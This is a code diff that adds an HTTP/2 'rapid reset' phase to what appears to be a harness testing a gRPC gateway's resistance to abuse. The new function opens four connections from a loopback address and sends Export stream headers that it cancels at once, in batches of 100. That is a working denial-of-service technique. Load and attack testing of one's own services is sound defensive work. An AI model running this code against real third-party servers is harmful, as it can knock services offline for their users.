@@ -303,6 +303,63 @@ async def tiny_chunks_stranger(target: attacks.Target, stop: asyncio.Event) -> s
     return await _tiny_chunks(target, stop, None)
 
 
+async def rapid_reset(target: attacks.Target, stop: asyncio.Event) -> str:
+    """HTTP/2 rapid reset on the gRPC port without a key, from 127.0.0.9: Export streams
+    opened (headers only) and reset at once, in batches of 100, on 4 connections."""
+    import h2.config
+    import h2.connection
+    import h2.errors
+
+    host, _, port = target.grpc.partition(":")
+    headers = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", attacks.EXPORT),
+        (":authority", "gateway"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ]
+    sent = 0
+    closed = 0
+
+    async def one() -> None:
+        nonlocal sent, closed
+        reader, writer = await asyncio.open_connection(host, int(port), local_addr=("127.0.0.9", 0))
+        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        conn.initiate_connection()
+        writer.write(conn.data_to_send())
+
+        async def drain() -> None:
+            while True:
+                data = await reader.read(65536)
+                if not data:
+                    return
+                try:
+                    conn.receive_data(data)
+                except Exception:
+                    return
+
+        draining = asyncio.create_task(drain())
+        try:
+            while not stop.is_set():
+                for _ in range(100):
+                    stream = conn.get_next_available_stream_id()
+                    conn.send_headers(stream, headers)
+                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
+                    sent += 1
+                writer.write(conn.data_to_send())
+                await writer.drain()
+                await asyncio.sleep(0)
+        except (OSError, Exception):
+            closed += 1
+        finally:
+            draining.cancel()
+            writer.close()
+
+    await asyncio.gather(*(one() for _ in range(4)))
+    return f"{sent} streams opened and reset, {closed} connections ended by the server"
+
+
 PHASES = {
     "quiet": None,
     "histogram_buckets": histogram_buckets,
@@ -317,6 +374,7 @@ PHASES = {
     "pipelined_stranger": pipelined_stranger,
     "tiny_chunks": tiny_chunks,
     "tiny_chunks_stranger": tiny_chunks_stranger,
+    "rapid_reset": rapid_reset,
 }
 
 
